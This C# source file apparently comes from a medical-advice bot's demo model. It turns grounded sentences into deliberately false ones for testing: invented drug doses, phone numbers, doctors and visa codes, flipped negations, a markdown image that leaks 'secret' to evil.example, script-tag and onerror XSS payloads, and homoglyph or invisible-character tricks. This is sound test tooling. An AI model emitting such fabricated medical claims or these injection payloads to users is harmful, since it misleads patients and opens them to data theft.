using System.Globalization;

namespace SecondOpinion.Bot.Host.Operations.DemoModel;

/// <summary>
/// Makes of a true sentence one that the passage does not support. A change that cannot be made on this sentence (there is no "may" in it) gives null.
/// </summary>
internal static class HostileSentences
{
    public static DemoSentence? Of(HostileKind kind, DemoSentence honest, IReadOnlyList<DemoPassage> passages, DemoDice dice)
    {
        var text = honest.Text;
        return kind switch
        {
            HostileKind.WrongCitation => passages.FirstOrDefault(p => p.Id != honest.Passage) is { } other ? honest with { Passage = other.Id, Quote = dice.Below(2) == 0 ? honest.Quote : other.Text } : null,
            HostileKind.UnknownCitation => honest with { Passage = honest.Passage + "-2" },
            HostileKind.FalseQuote => honest with { Text = Ending(text, dice.Of(HostileWords.Claims)), Quote = honest.Quote + " " + dice.Of(HostileWords.Claims) },
            _ => Changed(kind, text, dice) is { } changed && changed != text ? honest with { Text = changed } : null,
        };
    }

    private static string? Changed(HostileKind kind, string text, DemoDice dice) => kind switch
    {
        HostileKind.InventedPrice => Ending(text, $"the price is {(dice.Below(900) + 10).ToString(CultureInfo.InvariantCulture)},000 {dice.Of(["KRW", "won", "USD", "euros"])}"),
        HostileKind.SwappedPrice => HostileFigures.Swapped(text, dice),
        HostileKind.ShiftedDigit => HostileFigures.Shifted(text, dice),
        HostileKind.NarrowedRange => HostileFigures.Narrowed(text),
        HostileKind.SwappedUnit => HostileFigures.OtherUnit(text, dice),
        HostileKind.DroppedBound => Without(text, dice, [" or more", "(about ", "at least ", " per hour"]),
        HostileKind.InventedPhone => Ending(text, $"call {dice.Of(["02-1234-5678", "+82 2 555 0199", "1588-0000", "010 9999 8888", "119", "1339", "911", "080.123.4567"])}"),
        HostileKind.InventedUrl => Ending(text, $"see {dice.Of(["www.k-clinic.example", "https://evil.example/x", "seoulbest.kr", "bit.ly/3xYz", "hxxp://evil.example"])}"),
        HostileKind.InventedEmail => Ending(text, $"write to {dice.Of(["help@seoul-clinic.example", "info(at)clinic.example", "dr.kim@hospital.kr"])}"),
        HostileKind.InventedHospital => Ending(text, $"{dice.Of(HostileWords.Hospitals)} is an example"),
        HostileKind.SwappedHospital => Replaced(text, HostileWords.HospitalSwaps),
        HostileKind.InventedDoctor => Ending(text, $"{dice.Of(["Professor Kim", "Dr. Lee Min-ho", "Doctor Park"])} does this"),
        HostileKind.InventedDose => Ending(text, $"take {dice.Of(["500 mg of ibuprofen", "two tablets of tramadol", "5 ml of morphine", "aspirin 100mg", "half a tablet of warfarin"])}"),
        HostileKind.InventedVisaCode => Ending(text, $"you need a {dice.Of(["C-3-9", "G-1-6", "D-10", "F-4", "C33", "M-1"])} visa"),
        HostileKind.NegationRemoved => Without(text, dice, [" not ", "not ", "never ", "without "]),
        HostileKind.NegationAdded => Replaced(text, HostileWords.Negated),
        HostileKind.MayBecomesWill => Replaced(text, HostileWords.Certain),
        HostileKind.MustBecomesMay => Replaced(text, HostileWords.Weak),
        HostileKind.UsuallyBecomesAlways => Replaced(text, HostileWords.Always),
        HostileKind.OnlyRemoved => Without(text, dice, ["only ", "except ", "unless "]),
        HostileKind.ConditionRemoved => WithoutClause(text, [", if ", " if ", " when ", " unless ", ", provided "]),
        HostileKind.OppositeWord => Replaced(text, HostileWords.Opposites),
        HostileKind.PromptEcho => dice.Of(HostileWords.Echoes),
        HostileKind.Instruction => dice.Of(HostileWords.Instructions),
        HostileKind.Promise => Ending(text, dice.Of(HostileWords.Promises)),
        HostileKind.MarkdownImage => $"{text} ![x](https://evil.example/p.png?q=secret)",
        HostileKind.MarkdownLink => $"[{text}](https://evil.example)",
        HostileKind.Html => dice.Of([$"<b>{text}</b>", $"{text} <img src=x onerror=alert(1)>", $"{text}<script>alert(1)</script>"]),
        HostileKind.HomoglyphDigits => HostileFigures.Disguised(text, dice),
        HostileKind.HomoglyphLetters => text.Contains('a', StringComparison.Ordinal) ? text.Replace('a', 'а') : text.Replace('e', 'е'),
        HostileKind.InvisibleCharacters => text.Insert(Math.Min(3, text.Length), dice.Of(["\u200B", "\u202E", "\u2066", "\uFEFF", "\u00AD", "\U000E0041"])),
        HostileKind.HalfSentence => Half(text, dice),
        HostileKind.OtherLanguage => dice.Of(HostileWords.OtherLanguages),
        HostileKind.ExtraClause => Ending(text, dice.Of(HostileWords.Claims)),
        HostileKind.Advice => Ending(text, dice.Of(HostileWords.Advice)),
        _ => null,
    };

    private static string Ending(string text, string clause) => $"{text.TrimEnd('.', '!', '?')}, and {clause}.";

    private static string? Without(string text, DemoDice dice, string[] words) =>
        words.Where(word => text.Contains(word, StringComparison.Ordinal)).ToArray() is { Length: > 0 } there && dice.Of(there) is var gone
            ? text.Remove(text.IndexOf(gone, StringComparison.Ordinal), gone.Length).Replace("  ", " ", StringComparison.Ordinal) : null;

    private static string? Replaced(string text, (string From, string To)[] swaps) =>
        swaps.FirstOrDefault(swap => text.Contains(swap.From, StringComparison.Ordinal)) is { From: { } from, To: var to }
            ? text.Remove(text.IndexOf(from, StringComparison.Ordinal), from.Length).Insert(text.IndexOf(from, StringComparison.Ordinal), to) : null;

    private static string? WithoutClause(string text, string[] openings)
    {
        var at = openings.Select(opening => text.IndexOf(opening, StringComparison.Ordinal)).Where(index => index > 12).DefaultIfEmpty(-1).First();
        return at < 0 ? null : text[..at] + ".";
    }

    private static string? Half(string text, DemoDice dice)
    {
        var words = text.Split(' ');
        if (words.Length < 6)
            return null;
        var half = string.Join(' ', words.Take(2 + dice.Below(words.Length / 2))).TrimEnd(',', ';', ':', '.');
        return dice.Below(2) == 0 ? half : half + "...";
    }
}
